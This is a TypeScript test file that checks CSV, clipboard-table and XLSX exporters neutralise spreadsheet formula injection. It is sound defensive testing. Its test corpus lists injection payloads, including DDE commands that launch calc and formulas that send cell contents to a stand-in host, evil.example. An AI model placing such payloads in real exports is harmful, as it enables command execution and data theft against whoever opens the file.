import { inflateRawSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { htmlTable } from "../client/take-away/cells.ts";
import { toXlsx } from "../client/take-away/xlsx.ts";
import { sheetLines } from "../client/data-table/sheet.ts";
import { loadDataset } from "../data.ts";
import { csvFiles } from "./files.ts";
import { harmless, toCsv } from "./csv.ts";

/** Texts that some spreadsheet would run, or take for a formula once the signs before it are gone. */
const corpus = [
  "=1+1",
  "=SUM(A1:A9)",
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "=cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!'A1'",
  "-2+3+cmd|' /C calc'!D2",
  "@cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  '=WEBSERVICE("https://evil.example/")',
  '=DDE("cmd";"/C calc";"x")',
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  '"=1+1"',
  ";=1+1",
  ",=1+1",
  "'=1+1",
];
/** What a spreadsheet would run where it stands first in a cell. */
const runs = /^[=+\-@\t\r\n＝＋－＠]/;
/** A line with a cell that might be such: only these need to be told apart into cells. */
const mayRun = /(?:^|,)"?[=+\-@\t\r＝＋－＠]/;
const numbers = [-1, -3.5, 0, 1e-7, 54, -0.25];

describe("a text that a spreadsheet could run", () => {
  it.each([",", "\t"] as const)("is harmless in a file parted by %j, in the header too", (separator) => {
    for (const text of corpus) {
      for (const cell of cellsOf(toCsv([text], [[text]], separator), separator)) expect(cell, text).not.toMatch(runs);
    }
  });

  it("is harmless in the lines above a table that is taken away", () => {
    for (const text of corpus) {
      const [first = [], ...rest] = sheetLines([[text, text]], [text], [[text]]);
      for (const cell of cellsOf(toCsv(first.map(String), rest), ",")) expect(cell, text).not.toMatch(runs);
    }
  });

  it("is harmless in a table on the clipboard", () => {
    for (const text of corpus) {
      const html = htmlTable(text, [text], [[text]], harmless);
      for (const [, cell = ""] of html.matchAll(/<(?:td|th|caption)>([^<]*)</g)) expect(cell, text).not.toMatch(runs);
    }
  });

  it("is a text in a spreadsheet file, and no cell of it a formula", async () => {
    const sheets = [{ name: "=1+1", rows: corpus.map((text) => [text]), headings: [0], widths: [20] }];
    const parts = await partsOf(await toXlsx(sheets));
    const sheet = parts.get("xl/worksheets/sheet1.xml")!;
    expect(sheet).not.toMatch(/<f[ >]/);
    const types = [...sheet.matchAll(/<c [^>]*?t="(\w+)"/g)].map((match) => match[1]);
    expect(types).toHaveLength(corpus.length);
    expect(types.every((type) => type === "s" || type === "inlineStr")).toBe(true);
    expect([...parts.keys()].filter((name) => /vba|macro|externalLink|connections/i.test(name))).toEqual([]);
  });

  it("stands nowhere in the downloads", () => {
    for (const { name, text } of csvFiles(loadDataset())) {
      const lines = text.split("\n").filter((line) => mayRun.test(line));
      const found = cellsOf(lines.join("\n"), ",").filter((cell) => runs.test(cell) && !/^-\d+(\.\d+)?$/.test(cell));
      expect(found.slice(0, 3), name).toEqual([]);
    }
  });
});

describe("a number", () => {
  it("is left alone, below zero too, by every writer", async () => {
    expect(
      toCsv(
        ["a"],
        numbers.map((n) => [n]),
      )
        .split("\n")
        .slice(1, -1),
    ).toEqual(numbers.map(String));
    expect(
      htmlTable(
        "a",
        ["a"],
        numbers.map((n) => [n]),
        harmless,
      ),
    ).toContain("<td>-3.5</td>");
    const parts = await partsOf(await toXlsx([{ name: "a", rows: numbers.map((n) => [n]), headings: [], widths: [] }]));
    const sheet = parts.get("xl/worksheets/sheet1.xml")!;
    const values = [...sheet.matchAll(/<c ([^>]*)><v>([^<]+)<\/v>/g)];
    expect(values.map(([, , value]) => Number(value))).toEqual(numbers);
    expect(values.filter(([, attributes = ""]) => /t="(?!n")/.test(attributes))).toEqual([]);
  });
});

describe("a symbol in place of a figure", () => {
  it("is kept by every writer, and no figure is an empty cell", async () => {
    expect(toCsv(["a", "b"], [["c", null]])).toBe("a,b\nc,\n");
    const parts = await partsOf(await toXlsx([{ name: "a", rows: [["c", null, "z"]], headings: [], widths: [] }]));
    const words = [...parts.values()].join("");
    expect(words).toMatch(/<t[^>]*>c<\/t>/);
    expect(parts.get("xl/worksheets/sheet1.xml")).not.toContain('r="B1"');
  });
});

/** Cells as a spreadsheet would read them. */
function cellsOf(text: string, separator: string): string[] {
  const cell = new RegExp(`(?:^|[${separator}\n])(?:"((?:[^"]|"")*)"|([^${separator}"\n]*))`, "g");
  return [...text.matchAll(cell)].map((match) => match[1]?.replaceAll('""', '"') ?? match[2]!);
}

/** The files in a zip archive, by its directory at the end. */
async function partsOf(blob: Blob): Promise<Map<string, string>> {
  const zip = Buffer.from(await blob.arrayBuffer());
  const end = zip.lastIndexOf(Buffer.from("PK\x05\x06", "latin1"));
  const parts = new Map<string, string>();
  for (let at = zip.readUInt32LE(end + 16); parts.size < zip.readUInt16LE(end + 10);) {
    const [nameLength, extra, comment] = [28, 30, 32].map((offset) => zip.readUInt16LE(at + offset)) as [
      number,
      number,
      number,
    ];
    const name = zip.toString("utf8", at + 46, at + 46 + nameLength);
    const local = zip.readUInt32LE(at + 42);
    const start = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
    const body = zip.subarray(start, start + zip.readUInt32LE(at + 20));
    parts.set(name, (zip.readUInt16LE(at + 10) === 0 ? body : inflateRawSync(body)).toString("utf8"));
    at += 46 + nameLength + extra + comment;
  }
  return parts;
}
